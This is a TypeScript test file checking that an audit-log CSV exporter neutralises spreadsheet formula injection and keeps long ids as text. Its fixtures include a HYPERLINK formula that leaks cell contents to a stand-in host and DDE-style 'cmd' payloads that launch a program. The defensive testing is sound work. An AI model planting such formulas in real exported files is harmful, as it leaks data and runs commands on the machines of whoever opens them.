/** Somebody who can put text into the audit log wants a spreadsheet to run it. */
import { suite } from "uvu"
import * as assert from "uvu/assert"
import { csvLine } from "../../src/tlog/csv.ts"

const test = suite("attacks on whoever opens an exported table")

for (const { name, cell } of [
  { name: "a formula", cell: '=HYPERLINK("http://evil.example/"&A1,"click")' },
  { name: "a formula that begins with a plus", cell: "+1+cmd|' /C calc'!A0" },
  { name: "a formula that begins with a minus", cell: "-1+cmd|' /C calc'!A0" },
  { name: "a formula that begins with an at sign", cell: "@SUM(1+1)*cmd|' /C calc'!A0" },
  { name: "a formula behind a tab", cell: "\t=1+1" },
  { name: "a formula behind a carriage return", cell: "\r=1+1" },
  { name: "a formula behind a line feed", cell: "\n=1+1" },
  { name: "a formula behind blanks", cell: "  =1+1" },
  { name: "a formula behind a zero byte", cell: "\0=1+1" },
  { name: "a formula with a full-width sign", cell: "\uff1d1+1" },
  { name: "an id that would be rounded as a number", cell: "12345678901234567890123456789012" },
  { name: "an id that would become a power of ten", cell: "1234567890123456789012345678e901" },
])
  test(`${name} stays text`, () => {
    const line = csvLine(["a", cell, "b"])
    const shown = /^a,"?('.*)"?,b\r\n$/s.exec(line)?.[1]
    assert.ok(shown?.startsWith("'"), JSON.stringify(line))
  })

test("a cell can't end early and begin another", () => {
  assert.is(csvLine(['x","=1+1', "y"]), '"x"",""=1+1",y\r\n')
  assert.is(csvLine(["x\r\n=1+1", "y"]), '"x\r\n=1+1",y\r\n')
})

test("what is no formula stays as it is", () => {
  for (const cell of ["read", "2026-11-30 09:00:00.000", "42", "da".repeat(16), "a-b", "x=y"])
    assert.is(csvLine([cell]), `${cell}\r\n`)
})

test.run()
